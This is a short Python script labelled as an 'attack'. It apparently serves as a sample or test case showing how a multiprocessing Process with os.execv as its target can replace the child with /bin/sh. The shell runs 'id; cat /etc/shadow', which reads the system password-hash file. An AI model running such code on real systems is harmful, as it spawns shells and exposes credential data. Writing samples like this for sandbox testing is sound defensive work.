# attack: a Process whose target is os.execv replaces the child with /bin/sh running a command
import os
from multiprocessing import Process

if __name__ == "__main__":
    p = Process(target=os.execv, args=("/bin/sh", ["sh", "-c", "id; cat /etc/shadow"]))
    p.start()
    p.join()
    print("child exited", p.exitcode)
